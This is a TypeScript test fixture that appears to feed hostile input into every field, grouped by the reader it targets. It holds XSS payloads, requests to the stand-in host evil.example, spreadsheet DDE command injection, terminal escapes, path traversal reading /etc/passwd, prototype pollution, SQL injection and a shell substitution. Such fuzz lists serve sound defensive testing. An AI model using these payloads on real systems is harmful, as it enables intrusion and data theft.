/**
 * What an enemy writes into a field. Each is meant for one reader of it (a
 * page, a spreadsheet, a terminal, a document, a parser), and all of them are
 * put into every field, since one does not know who reads it next.
 */

/** A script that ran, or a request that left, is told by these. */
export const MARK = "rasaiWasHere";
export const OUTSIDE = "evil.example";

export const PAYLOADS: readonly string[] = [
	// Pages
	`<script>window.${MARK}=1</script>`,
	`"><img src=x onerror="window.${MARK}=1">`,
	`' onmouseover='window.${MARK}=1' autofocus onfocus='window.${MARK}=1`,
	`</title></style></textarea><svg onload=window.${MARK}=1>`,
	`<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
	`<link rel=stylesheet href=//${OUTSIDE}/x.css><img src="http://${OUTSIDE}/x.png">`,
	`<meta http-equiv=refresh content="0;url=http://${OUTSIDE}/">`,
	`<base href="http://${OUTSIDE}/"><form action="http://${OUTSIDE}/">`,
	`javascript:window.${MARK}=1`,
	`data:text/html,<script>window.${MARK}=1</script>`,
	`]]><a xmlns="http://www.w3.org/1999/xhtml" onclick="window.${MARK}=1">`,
	`{{constructor.constructor("window.${MARK}=1")()}}\${window.${MARK}=1}`,
	// Spreadsheets
	`=HYPERLINK("http://${OUTSIDE}/","open")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\uff1d1+1",
	'a","=1+1',
	// Terminals
	"\u001b[2J\u001b]0;owned\u0007\u001b[31m",
	"\u009b31m\u0090q\u009c",
	"first\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
	"\b\b\b\b\u007f",
	// Directions and scripts
	"\u202emoc.elpmaxe\u202c",
	"\u2067\u2066\u061c\u200f\u200b",
	// Documents
	`![x](http://${OUTSIDE}/x.png) [y](javascript:window.${MARK}=1) <b>`,
	'#read("/etc/passwd") #import "@preview/evil:1.0.0" $sum$ \\ `raw`',
	"%PDF-1.7 /JavaScript (app.alert\\(1\\)) >>endobj",
	// Paths and parsers
	"../../../../../../etc/passwd",
	"..\\..\\windows\\system32",
	"/etc/passwd\u0000.json",
	"__proto__",
	"constructor",
	'{"__proto__":{"polluted":true}}',
	"'; DROP TABLE verdicts; --",
	"$(touch /tmp/owned)`id`",
	"\ud800 alone \udfff",
	"x".repeat(10_000),
];
